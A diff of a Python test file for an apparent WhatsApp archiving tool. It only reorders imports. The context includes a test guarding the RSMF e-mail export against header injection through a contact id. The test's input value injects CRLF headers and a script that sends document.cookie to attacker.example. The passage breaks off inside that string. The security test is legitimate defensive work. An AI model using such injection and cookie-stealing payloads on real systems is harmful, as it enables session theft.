@@ -21,9 +21,9 @@ from aiohttp import web
 
 from tests.conftest import LEDGER_KEY
 from tests.test_outbound import _proxy, _record
-from wa_archive.integrity import ledger
 from wa_archive.devstack.embedded import free_port
 from wa_archive.errors import LinkRefused
+from wa_archive.integrity import ledger
 from wa_archive.sources.links import Allowlist, LinkFetcher
 from wa_archive.sources.meta.samples import dumps, envelope, message, wamid
 
@@ -210,8 +210,8 @@ async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp
     """The RSMF file is an RFC 5322 message whose Subject carries the contact's id, which comes from
     the payload (a webhook's `from`/`wa_id`); a line break in it must not end the headers early and
     make the e-mail an HTML document of the sender's."""
-    from wa_archive.discovery.export import ExportQuery, write_bundle
     from wa_archive.archive.keys import safe_id
+    from wa_archive.discovery.export import ExportQuery, write_bundle
     from wa_archive.sources.meta.samples import dumps, envelope, message
 
     contact = ("x\r\nContent-Type: text/html\r\n\r\n<script>fetch('https://attacker.example/'+document.cookie)"
